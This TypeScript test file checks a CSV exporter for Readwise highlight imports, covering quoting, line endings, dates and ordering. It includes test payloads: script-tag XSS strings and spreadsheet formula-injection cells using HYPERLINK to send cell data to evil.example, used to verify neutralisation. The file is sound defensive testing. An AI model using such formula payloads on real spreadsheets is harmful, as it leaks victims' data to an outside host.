import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { readwiseDate, toCsv } from './csv';
import { hostileArticle, seedInput, twoArticleInput } from '../../test/kits/export-fixture';

function rows(csv: string): string[][] {
  return parse(csv, { bom: true, relax_column_count: false }) as string[][];
}

describe('toCsv', () => {
  it('starts with a UTF-8 BOM and the columns Readwise imports', () => {
    const csv = toCsv(seedInput());
    expect(csv.startsWith('\uFEFFHighlight,Title,Author,URL,Note,Location,Date\r\n')).toBe(true);
  });

  it('ends every record with CRLF and uses no bare LF outside quoted fields', () => {
    const csv = toCsv(twoArticleInput());
    expect(csv.endsWith('\r\n')).toBe(true);
    const outsideQuotes = csv.replace(/"(?:[^"]|"")*"/g, '');
    expect(outsideQuotes.replace(/\r\n/g, '')).not.toMatch(/[\r\n]/);
  });

  it('parses back to exactly the fields written, commas, quotes and line breaks included', () => {
    const [, ...records] = rows(toCsv({ ...seedInput(), articles: [hostileArticle()] }));
    expect(records).toEqual([
      [
        'Notes, "quoted", and <script>alert(1)</script>\n\n- a *starred* _word_ | pipe # hash [link](https://evil.example/x.png) `code` \\ slash',
        'Title, "quoted" <b>&</b>: CON',
        '',
        '',
        '.x,y ."q"\nLine one, "two"\nline <script>alert("x")</script>\n\n![x](https://evil.example/t.png)\nColour / اللون: green (أخضر)',
        '0',
        '2025-03-05 00:00:00',
      ],
    ]);
  });

  it('writes one row per highlight, in reading order, orphans last without a location', () => {
    const records = rows(toCsv(seedInput())).slice(1);
    expect(records.map((record) => record[0]?.slice(0, 12))).toEqual([
      'فشل “تنظيم ا',
      'خلال 6 سنوات',
      'مقتل البغداد',
      'مقتل زعيم تن',
      'أكد مدير الش',
      'وقد أعلنت *ا',
    ]);
    expect(records.map((record) => record[5])).toEqual(['71', '90', '844', '937', '1601', '']);
  });

  it('puts tags first in the note as Readwise inline tags, then the note, then the colour', () => {
    const records = rows(toCsv(seedInput())).slice(1);
    const commas = records.find((record) => record[0]?.startsWith('أكد مدير'));
    expect(commas?.[4]).toBe(
      '.US_policy .تصريحات\nقال "كارنس"، وهو مسؤول, إن المراقبة مستمرة; "لا ضربات".\nColour / اللون: pink (وردي)',
    );
  });

  it('writes dates as Readwise reads them, in UTC', () => {
    expect(readwiseDate('2025-03-01T09:15:00.000Z')).toBe('2025-03-01 09:15:00');
    expect(readwiseDate('2025-03-01T11:15:00+02:00')).toBe('2025-03-01 09:15:00');
    expect(readwiseDate('yesterday')).toBe('');
  });

  it.each(['=', '+', '-', '@', '\t', '\r'])(
    'neutralises a cell starting with %j as a spreadsheet formula, and still parses back',
    (start) => {
      const input = seedInput();
      const [seed] = input.articles;
      const [first] = seed?.highlights ?? [];
      if (seed === undefined || first === undefined) throw new Error('fixture error');
      const formula = `${start}HYPERLINK("https://evil.example/?"&A1,"x")`;
      const hostile = {
        meta: { ...seed.meta, title: formula },
        highlights: [{ ...first, target: { ...first.target, exact: formula }, note: formula, tags: [] }],
      };
      const records = rows(toCsv({ ...input, articles: [hostile] })).slice(1);
      expect(records).toHaveLength(1);
      const [quote, title, , , note] = records[0] ?? [];
      expect(quote).toBe(`'${formula}`);
      expect(title).toBe(`'${formula}`);
      // The note is trimmed first, so a leading tab or CR goes; whatever starts it is never a formula.
      expect(note).not.toMatch(/^[=+\-@\t\r]/);
      expect(note).toContain(formula.trim());
    },
  );

  it('quotes a cell holding a semicolon, the separator where a comma is the decimal mark', () => {
    const input = seedInput();
    const [seed] = input.articles;
    if (seed === undefined) throw new Error('fixture error');
    const csv = toCsv({ ...input, articles: [{ ...seed, meta: { ...seed.meta, title: 'a;=1+1' } }] });
    expect(csv).toContain('"a;=1+1"');
  });

  it('writes only the header for an empty export', () => {
    expect(toCsv({ ...seedInput(), articles: [] })).toBe(
      '\uFEFFHighlight,Title,Author,URL,Note,Location,Date\r\n',
    );
  });
});
